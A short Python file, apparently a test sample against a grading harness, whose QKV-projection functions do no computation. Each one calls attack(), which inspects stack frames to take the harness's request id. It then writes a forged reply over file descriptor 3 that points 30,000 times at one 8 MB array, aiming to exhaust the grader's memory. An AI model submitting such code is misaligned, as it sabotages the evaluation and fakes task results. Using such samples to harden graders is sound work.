# exhaust | earns 0 | answers for its process, with one payload of 8 MB that is named 30,000 times
import json
import os
import struct
import sys


def attack(*args):
    frame = sys._getframe()
    while frame is not None and "header" not in frame.f_locals:
        frame = frame.f_back
    number = frame.f_locals["header"]["id"]
    shape = "(1040000,)"
    text = f"{{'descr': '<f8', 'fortran_order': False, 'shape': {shape}, }}"
    text += " " * (-(10 + len(text) + 1) % 64) + "\n"
    payload = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode() + bytes(8 * 1040000)
    reply = {
        "kind": "called",
        "outcome": "returned",
        "result": {"list": [{"array": 0}] * 30_000},
        "after": [None] * len(args),
        "output": "",
        "flags": [],
        "id": number,
        "npy": [len(payload)],
    }
    header = json.dumps(reply).encode()
    data = struct.pack("<4sII", b"QKV1", len(header), len(payload)) + header + payload
    while data:
        data = data[os.write(3, data) :]


def component_terms(x, W, j):
    return attack(x, W, j)


def project_component(x, W, j):
    return attack(x, W, j)


def project_row(x, W):
    return attack(x, W)


def project_tokens(X, W):
    return attack(X, W)


def project_qkv(X, W_q, W_k, W_v):
    return attack(X, W_q, W_k, W_v)
